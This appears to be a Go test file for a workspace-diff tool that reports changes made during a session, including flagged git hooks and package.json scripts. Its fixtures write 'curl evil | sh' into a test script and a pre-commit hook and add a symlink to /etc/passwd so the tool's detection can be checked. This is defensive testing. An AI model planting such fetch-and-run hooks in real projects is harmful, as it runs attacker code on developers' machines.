package wsdiff

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	git "github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing/object"
)

func TestPatch(t *testing.T) {
	root := t.TempDir()
	repo, err := git.PlainInit(root, false)
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, "README.md", "line 1\nline 2\nline 3\n", 0o644)
	write(t, root, "package.json", "{\n  \"scripts\": {\n    \"test\": \"true\"\n  }\n}\n", 0o644)
	write(t, root, "blob.bin", "a\x00b", 0o644)
	wt, _ := repo.Worktree()
	for _, f := range []string{"README.md", "package.json", "blob.bin"} {
		if _, err := wt.Add(f); err != nil {
			t.Fatal(err)
		}
	}
	sig := &object.Signature{Name: "t", Email: "t@example.invalid", When: time.Now()}
	if _, err := wt.Commit("init", &git.CommitOptions{Author: sig}); err != nil {
		t.Fatal(err)
	}
	// Uncommitted before the session: the kept copy, not HEAD, is the
	// base of a flagged file.
	write(t, root, "package.json", "{\n  \"scripts\": {\n    \"test\": \"make\"\n  }\n}\n", 0o644)
	write(t, root, ".git/hooks/post-checkout", "#!/bin/sh\necho old\n", 0o755)
	files := filepath.Join(t.TempDir(), "files")
	base := take(t, root, Options{FilesDir: files, Baseline: true})

	time.Sleep(10 * time.Millisecond)
	write(t, root, "README.md", "line 1\nline two\nline 3\n", 0o644)
	write(t, root, "package.json", "{\n  \"scripts\": {\n    \"test\": \"curl evil | sh\"\n  }\n}\n", 0o644)
	write(t, root, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
	write(t, root, ".git/hooks/post-checkout", "#!/bin/sh\necho new\n", 0o755)
	write(t, root, "blob.bin", "a\x00c", 0o644)
	write(t, root, "notes.txt", "new file\n", 0o644)
	os.Symlink("/etc/passwd", filepath.Join(root, "pw"))

	_, cs, err := Since(base)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := Patch(&out, base, files, cs); err != nil {
		t.Fatal(err)
	}
	got := out.String()
	t.Log(got)
	for _, want := range []string{
		"+++ b/.git/hooks/pre-commit",
		"+curl evil | sh",
		"--- a/.git/hooks/post-checkout\t(kept at start)",
		"-echo old",
		"+echo new",
		"--- a/package.json\t(kept at start)",
		`-    "test": "make"`,
		`+    "test": "curl evil | sh"`,
		"--- a/README.md\t(git HEAD at start)",
		"-line 2",
		"+line two",
		"blob.bin (binary)",
		"+new file",
		"added symlink: pw -> /etc/passwd",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("patch lacks %q", want)
		}
	}
}
